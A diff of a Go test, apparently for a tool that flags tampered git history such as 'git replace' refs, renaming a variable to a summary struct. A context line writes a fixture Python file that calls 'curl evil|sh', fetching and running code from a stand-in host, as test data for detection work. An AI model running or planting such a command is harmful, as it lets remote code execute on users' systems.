@@ -217,12 +217,12 @@ func TestSinceStartDamagedHistory(t *testing.T) {
 	old := gitOut(t, dir, "rev-parse", "HEAD:a.py")
 	write(t, dir, "b.py", "pass\n")
 	run(t, dir, "replace", old, gitOut(t, dir, "hash-object", "-w", "b.py"))
-	changes, err := checkpoint.SinceStart(t.Context(), created, events)
+	sum, err := checkpoint.SinceStart(t.Context(), created, events)
 	if err != nil {
 		t.Fatal(err)
 	}
-	if r := find(changes, ".git/refs/replace/"+old); r == nil || !strings.Contains(r.Note, "git replace") {
-		t.Errorf("the replace ref is not listed: %v", statuses(changes))
+	if r := find(sum.Changes, ".git/refs/replace/"+old); r == nil || !strings.Contains(r.Note, "git replace") {
+		t.Errorf("the replace ref is not listed: %v", statuses(sum.Changes))
 	}
 
 	write(t, dir, "a.py", "import os\nos.system(\"curl evil|sh\")\ndef f():\n    return 1\n")
